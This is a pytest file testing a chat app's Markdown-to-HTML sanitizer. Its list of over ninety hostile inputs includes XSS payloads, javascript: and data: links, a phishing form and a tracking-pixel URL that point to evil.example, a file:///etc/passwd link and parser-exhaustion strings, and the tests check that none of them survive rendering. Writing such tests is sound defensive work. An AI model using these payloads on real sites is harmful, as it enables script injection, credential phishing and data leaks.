"""Answers as HTML: what people expect of Markdown, and nothing that a hostile text could do."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit
from uuid import UUID

import pytest
from django.utils.safestring import SafeString

from chat import markup
from chat.models import Chat, Message, Role
from tests.acts import add_message

FENCE = "`" * 3
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><use href='data:image/svg+xml;base64,AAAA#x'/></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href='javascript:alert(1)'>click</math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action='https://evil.example'><input name=password><button>Sign in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<xmp><script>alert(1)</script></xmp>",
    "<marquee onstart=alert(1)>x</marquee>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61vascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](  javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](https://evil.example 'a\" onmouseover=\"alert(1)')",
    '[x](https://evil.example/"onmouseover="alert(1))',
    "<javascript:alert(1)>",
    "<https://evil.example/\"onmouseover='alert(1)'>",
    "![x](https://evil.example/pixel.png?leak=secret)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    '![x](https://evil.example/a.png "a\\" onerror=\\"alert(1)")',
    f"{FENCE}html\n<script>alert(1)</script>\n{FENCE}",
    f'{FENCE}" onmouseover="alert(1)\nx\n{FENCE}',
    f"{FENCE}<img src=x onerror=alert(1)>\nx\n{FENCE}",
    f"{FENCE}js\nlet x = '{FENCE}'\n<script>alert(1)</script>",
    f"{FENCE}{FENCE}\n{FENCE}\n<script>alert(1)</script>\n{FENCE}\n{FENCE}{FENCE}",
    "`<script>alert(1)</script>",
    "| a | b |\n| --- |\n| <script>alert(1)</script> |",
    "| a |\n| :-: |\n| <img src=x onerror=alert(1)> |\n| [x](javascript:alert(1)) |",
    "| a\n|---\n| b | c | d | <script>alert(1)</script>",
    r"\(<img src=x onerror=alert(1)>\)",
    r"\[<script>alert(1)</script>\]",
    "$$<script>alert(1)</script>$$",
    "$<img src=x onerror=alert(1)>$ and $x",
    r"\[ \href{javascript:alert(1)}{x} \] (<script>alert(1)</script>)",
    r"$$ \begin{matrix} a & b",
    "> <script>alert(1)</script>\n> > <img src=x onerror=alert(1)>",
    "\u202e<script>alert(1)</script>\u202c \u2066[x](javascript:alert(1))\u2069",
    "\u202egnp.exe\u202c \u200f\u200e\u061c",
    "a" * 10_000,
    "<" * 10_000,
    "[" * 5_000 + "]" * 5_000,
    "*" * 5_000 + "a" + "_" * 5_000,
    "`" * 10_000,
    "> " * 5_000 + "x",
    "- " * 5_000 + "x",
    "![" * 5_000,
    r"\(" * 5_000,
    "\\[\n" * 5_000,
    "$$\n" * 5_000,
    "$" * 9_999,
    "https://evil.example/" + "(" * 5_000,
    "&" * 5_000 + "&#0;&#x110000;&nbsp",
    "x\x00y<script>\x00alert(1)</script>",
]


class Looking(HTMLParser):
    """What a browser would find."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_nothing_comes_out_that_could_act_or_fetch(text: str) -> None:
    found = Looking()
    found.feed(markup.html(text))

    assert found.tags <= markup.TAGS
    for tag, name, value in found.attributes:
        assert name in {"href", "title", "target", "rel", "class", "dir", "start", "tabindex"}, (tag, name)
        if name == "href":
            assert urlsplit(value).scheme in {"", *markup.SCHEMES}, value
            assert (tag, "rel", "noopener noreferrer nofollow") in found.attributes


def test_there_are_enough_of_them() -> None:
    assert len(HOSTILE) >= 60


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("One\ntwo.\n\nThree.", '<p dir="auto">One<br>\ntwo.</p>\n<p dir="auto">Three.</p>\n'),
        ("# A\n## B\n###### C", '<h3 dir="auto">A</h3>\n<h4 dir="auto">B</h4>\n<h6 dir="auto">C</h6>\n'),
        ("~~no~~ **yes** _so_", '<p dir="auto"><s>no</s> <strong>yes</strong> <em>so</em></p>\n'),
        ("3. x", '<ol start="3">\n<li dir="auto">x</li>\n</ol>\n'),
        ("    code", '<pre dir="ltr"><code>code\n</code></pre>\n'),
        (f"{FENCE}py a\nx < 1\n{FENCE}", '<pre dir="ltr"><code class="language-py">x &lt; 1\n</code></pre>\n'),
        (r"Now \(x^2 < 1\).", '<p dir="auto">Now <span class="math inline" dir="ltr">x^2 &lt; 1</span>.</p>\n'),
        ("It costs $5 or $10.", '<p dir="auto">It costs $5 or $10.</p>\n'),
        ("<b>bold</b> & co", '<p dir="auto">&lt;b&gt;bold&lt;/b&gt; &amp; co</p>\n'),
    ],
)
def test_what_people_expect(text: str, expected: str) -> None:
    assert markup.html(text) == expected


@pytest.mark.parametrize(
    "text", ["$$\nx\n$$", "\\[\nx\n\\]", "$$x$$", "So \\[x\\] holds.", "- \\[\n  x\n  \\]", "> \\[\n> x\n> \\]"]
)
def test_formulas_on_their_own(text: str) -> None:
    assert '<span class="math display" dir="ltr">x</span>' in markup.html(text)


def test_links_lead_elsewhere_and_tell_nothing() -> None:
    made = markup.html("See https://example.org/a and [b](https://example.org/b).")

    assert re.findall(r'<a href="https://example.org/\w"', made)
    assert made.count('target="_blank"') == made.count('rel="noopener noreferrer nofollow"') == 2


def test_an_image_is_a_link() -> None:
    made = markup.html("![A cat](https://example.org/cat.png)")

    assert "<img" not in made
    assert ">A cat</a>" in made


def test_a_table_has_its_columns_aligned_and_a_place_to_scroll_in() -> None:
    made = markup.html("| a | b |\n| --: | :-: |\n| 1 | 2 |")

    assert made.startswith('<div class="wide" tabindex="0"><table dir="auto">')
    assert re.search(r'<td[^>]*class="to-right"', made)
    assert re.search(r'<td[^>]*class="to-center"', made)
    assert "style" not in made


@pytest.mark.django_db(transaction=True)
def test_an_answer_is_made_once_and_anew_by_other_rules(chat: Chat, monkeypatch: pytest.MonkeyPatch) -> None:
    question, answer = add_message(chat, Role.USER, "**Why?**"), add_message(chat, Role.ASSISTANT, "**So.**")
    made: list[str] = []
    html = markup.html

    def noting(text: str) -> SafeString:
        made.append(text)
        return html(text)

    def of_answers() -> dict[UUID, SafeString]:
        return markup.of_answers(list(Message.objects.order_by("position")))

    monkeypatch.setattr(markup, "html", noting)
    assert question.pk not in of_answers()
    assert of_answers() == of_answers() == {answer.pk: '<p dir="auto"><strong>So.</strong></p>\n'}
    assert made == ["**So.**"]

    monkeypatch.setattr(markup, "VERSION", markup.VERSION + 1)
    of_answers()
    assert made == ["**So.**"] * 2


@pytest.mark.django_db(transaction=True)
def test_what_there_is_no_time_for_stays_text(chat: Chat, monkeypatch: pytest.MonkeyPatch) -> None:
    add_message(chat, Role.ASSISTANT, "**So.**")
    monkeypatch.setattr(markup, "PATIENCE_S", -1)

    assert markup.of_answers(list(Message.objects.all())) == {}
